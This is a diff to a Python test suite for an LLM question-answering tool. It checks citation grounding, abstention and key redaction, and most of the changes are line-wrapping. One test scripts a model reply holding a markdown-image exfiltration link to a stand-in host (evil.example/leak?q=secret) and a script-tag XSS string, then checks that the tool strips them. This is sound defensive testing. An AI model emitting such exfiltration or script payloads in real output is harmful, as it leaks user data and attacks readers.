@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import socket
 import time
 from collections.abc import Callable, Iterator
@@ -81,7 +82,9 @@ def echo_then(extra: Callable[[dict[str, Any]], str]) -> Callable[[dict[str, Any
 
 def test_fabricated_sentence_is_removed_and_grounded_sentence_kept(make_fathom):
     fabricated = "Tickets filed on weekends are answered within 90 seconds by a robot."
-    with ScriptedLLMServer(echo_then(lambda r: f"{fabricated} [{sentence_from(r, 'four business')[0]}]")) as server:
+    with ScriptedLLMServer(
+        echo_then(lambda r: f"{fabricated} [{sentence_from(r, 'four business')[0]}]")
+    ) as server:
         answer = make_fathom(server).ask(QUESTION)
     assert not answer.abstained
     assert answer.model == "openai:scripted-model"
@@ -108,7 +111,9 @@ def test_mark_policy_keeps_unsupported_sentence_marked(make_fathom):
 
 def test_citation_to_a_chunk_never_given_is_dropped(make_fathom):
     with ScriptedLLMServer(echo_then(lambda r: "")) as server:
-        server.script = lambda r: Reply(text=f"{sentence_from(r, 'four business')[1]} [{sentence_from(r, 'four business')[0]}][77]")
+        server.script = lambda r: Reply(
+            text=f"{sentence_from(r, 'four business')[1]} [{sentence_from(r, 'four business')[0]}][77]"
+        )
         answer = make_fathom(server).ask(QUESTION)
     assert "[77]" not in answer.answer
     assert [c.n for c in answer.citations] == [1]
@@ -116,7 +121,9 @@ def test_citation_to_a_chunk_never_given_is_dropped(make_fathom):
 
 
 def test_only_uncited_or_invented_citations_means_abstain(make_fathom):
-    with ScriptedLLMServer(lambda r: Reply(text="Support is instant [42]. It is free for everyone.")) as server:
+    with ScriptedLLMServer(
+        lambda r: Reply(text="Support is instant [42]. It is free for everyone.")
+    ) as server:
         answer = make_fathom(server).ask(QUESTION)
     assert answer.abstained
     assert answer.citations == ()
@@ -161,7 +168,9 @@ def test_stall_after_first_token_hits_total_timeout(make_fathom):
 
 
 def test_malformed_stream_falls_back_with_a_note(make_fathom):
-    with ScriptedLLMServer(lambda r: Reply(raw=['{"choices": [{"delta": {"content": "Hel', "not json"])) as server:
+    with ScriptedLLMServer(
+        lambda r: Reply(raw=['{"choices": [{"delta": {"content": "Hel', "not json"])
+    ) as server:
         answer = make_fathom(server).ask(QUESTION)
     assert answer.model == "extractive"
     assert any("provider.malformed" in note for note in answer.notes)
@@ -249,7 +258,9 @@ def test_injection_in_the_question_skips_the_llm(make_fathom):
 def test_exfiltration_image_and_html_are_removed(make_fathom):
     def script(request: dict[str, Any]) -> Reply:
         n, sentence = sentence_from(request, "four business hours")
-        return Reply(text=f"{sentence} [{n}] ![x](https://evil.example/leak?q=secret) <script>alert(1)</script>")
+        return Reply(
+            text=f"{sentence} [{n}] ![x](https://evil.example/leak?q=secret) <script>alert(1)</script>"
+        )
 
     with ScriptedLLMServer(script) as server:
         answer = make_fathom(server).ask(QUESTION)
@@ -291,8 +302,33 @@ def test_answer_cache_exact_semantic_scoped_and_invalidated(make_fathom):
         assert len(server.requests) == 1
         assert again.cached and similar.cached and not first.cached
         assert again.answer == first.answer
-        fathom.ingest_text(HANDBOOK.replace("four business hours", "two business hours"), source="handbook.md")
+        fathom.ingest_text(
+            HANDBOOK.replace("four business hours", "two business hours"), source="handbook.md"
+        )
         changed = fathom.ask(QUESTION)
         assert len(server.requests) == 2
     assert not changed.cached
     assert "two business hours" in changed.answer
+
+
+@pytest.mark.slow
+def test_cli_ask_with_llm_from_settings_file_never_echoes_the_key(tmp_path):
+    from tests.test_cli import fathom_cli
+
+    home = tmp_path / "cli-home"
+    home.mkdir()
+    (home / "notes.md").write_text(HANDBOOK)
+    with ScriptedLLMServer(echo_then(lambda r: "")) as server:
+        (home / "fathom.toml").write_text(
+            f'llm = "openai:scripted-model"\nllm_base_url = "{server.url}"\n'
+            f'llm_api_key = "sk-cli-secret"\nlog_level = "DEBUG"\nllm_prices = {{"scripted-model" = [0.5, 1.5]}}\n'
+        )
+        fathom_cli("ingest", str(home / "notes.md"), "--json", home=home)
+        result = fathom_cli("ask", QUESTION, "--json", home=home)
+        assert server.headers[0]["authorization"] == "Bearer sk-cli-secret"
+    answer = json.loads(result.stdout)
+    assert answer["model"] == "openai:scripted-model"
+    assert answer["groundedness"] == 1.0
+    assert answer["usage"]["cost"] == pytest.approx((120 * 0.5 + 30 * 1.5) / 1e6)
+    assert "four business hours" in answer["answer"]
+    assert "sk-cli-secret" not in result.stdout + result.stderr
